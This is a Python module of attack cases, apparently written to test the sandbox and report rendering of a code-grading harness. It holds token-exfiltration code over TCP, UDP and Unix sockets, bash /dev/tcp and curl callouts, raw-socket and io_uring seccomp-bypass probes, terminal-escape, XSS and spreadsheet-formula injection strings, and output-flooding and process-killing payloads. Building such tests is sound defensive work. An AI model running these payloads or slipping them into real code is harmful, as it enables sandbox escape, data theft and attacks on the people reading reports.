"""Reaching out: networks, sockets, and the eyes of whoever reads the report."""

from __future__ import annotations

from attacks.record import attack, named

tcp = attack(
    "network",
    "Sends its loot over TCP to this machine.",
    """
for host in ("127.0.0.1", "::1", AIM["host"]):
    try:
        with socket.create_connection((host, AIM["port"]), 1) as connection:
            connection.sendall(TOKEN.encode())
    except OSError:
        pass
""",
)
udp = attack(
    "network",
    "Sends its loot in datagrams, as a question for a name does.",
    """
for host in ("127.0.0.1", AIM["host"]):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(TOKEN.encode(), (host, AIM["port"]))
    except OSError:
        pass
""",
)
unix_socket = attack(
    "network",
    "Connects to a socket that lies in the file system, as that of Docker does.",
    """
try:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(AIM["socket"])
        connection.sendall(TOKEN.encode())
except OSError:
    pass
""",
)
abstract_socket = attack(
    "network",
    "Connects to a socket that has a name, but lies in no file system.",
    """
try:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(chr(0) + AIM["abstract"])
        connection.sendall(TOKEN.encode())
except OSError:
    pass
""",
)
pair_reused = attack(
    "network",
    "Makes a pair of sockets, which is allowed, and sends from one of them elsewhere.",
    """
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    left, right = socket.socketpair(socket.AF_UNIX, kind)
    for target in (AIM["socket"], AIM["socket"] + "2", chr(0) + AIM["abstract"]):
        try:
            if kind == socket.SOCK_DGRAM:
                left.sendto(TOKEN.encode(), target)
            else:
                left.connect(target)
                left.sendall(TOKEN.encode())
        except OSError:
            pass
""",
)
raw_sockets = attack(
    "limit",
    "Opens sockets of rarer kinds: packets, the kernel's own, virtual machines'.",
    """
for family, kind in ((17, 3), (16, 3), (40, 1), (38, 5), (2, 3), (29, 3), (1, 1)):
    for kinds in (kind, kind | 0o2000000, kind | 0o4000):
        if LIBC.socket(family, kinds, 0) >= 0:
            did()
""",
)
ring = attack(
    "limit",
    "Asks for a ring of requests, with which the kernel does what seccomp forbids.",
    """
parameters = ctypes.create_string_buffer(120)
if LIBC.syscall(425, 4, parameters) >= 0:
    did()
""",
    naive="many machines have them switched off",
)
program_online = attack(
    "network",
    "Has programs do it that are installed: bash, curl, Python.",
    """
host, port = "127.0.0.1", AIM["port"]
send = f"import socket; s = socket.create_connection(({host!r}, {port})); s.send(b'x')"
for command in (
    ["bash", "-c", f"echo {TOKEN} > /dev/tcp/{host}/{port}"],
    ["curl", "-m", "1", "-s", f"http://{host}:{port}/{TOKEN}"],
    [sys.executable, "-S", "-c", send],
):
    try:
        subprocess.run(command, timeout=3, capture_output=True)
    except (OSError, subprocess.TimeoutExpired):
        pass
os.system(f"(echo {TOKEN} > /dev/tcp/{host}/{port}) 2>/dev/null")
""",
)

# What is told is read by people, in terminals and browsers

ESCAPES = "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m\\r\\x08\\u202e\\x00"

escapes = attack(
    "text",
    "Puts what steers a terminal into a message.",
    f'MARK = "<script>alert(1)</script> {ESCAPES} =cmd|calc"',
    """
def discounted_return(rewards, gamma):
    raise ValueError(MARK)
""",
    "raise RuntimeError(MARK)",
)
escapes_in_names = attack(
    "text",
    "Puts it into the names of classes, functions and keys.",
    f'MARK = "{ESCAPES}".replace(chr(0), "")',
    """
Evil = type(MARK, (Exception,), {})
Value = type(MARK, (), {"__repr__": lambda self: MARK})

def discounted_return(rewards, gamma):
    if gamma == 0.5:
        return {MARK: 1.0, "other": Value()}
    if gamma == 1.0:
        return [MARK, Value()]
    raise Evil(MARK)
""",
    "raise Evil(MARK)",
)
escapes_in_keys = attack(
    "text",
    "Returns it, as keys and values.",
    f'MARK = "{ESCAPES}"',
    "def discounted_return(rewards, gamma): return {MARK: MARK, 'a': [MARK]}",
    naive="it does not show what was returned",
)
many_keys = attack(
    "text",
    "Returns a dict with more keys than anybody reads, and one key that has no end.",
    """
def discounted_return(rewards, gamma):
    if gamma == 0.5:
        return {str(number): 0.0 for number in range(99_999)}
    return {"k" * 10**6: 0.0}
""",
    naive="it does not show what was returned",
)
endless_message = attack(
    "text",
    "Raises with a message of ten million characters, in a class with a long name.",
    """
Evil = type("E" * 10**5, (Exception,), {})

def discounted_return(rewards, gamma):
    raise Evil("long " * 2 * 10**6)
""",
    "raise Evil('long ' * 10**6)",
)
endless_notes = attack(
    "text",
    "Returns texts, names and lists that have no end, so that the report has none.",
    """
def discounted_return(rewards, gamma):
    if gamma == 0.5:
        return ["x" * 10**6] * 3
    return [[[float(i)] * 9 for i in range(9999)]]
""",
    *("raise ValueError('x' * 400)",) * 300,
)
message_that_fails = attack(
    "batch",
    "Raises an exception that cannot be put into words: its text ends the process.",
    """
class Evil(BaseException):
    def __str__(self): os._exit(0)
    __repr__ = __str__

class Name(type):
    def __getattribute__(cls, name): os._exit(0)

def discounted_return(rewards, gamma):
    raise Evil
""",
)

ATTACKS = named(globals())
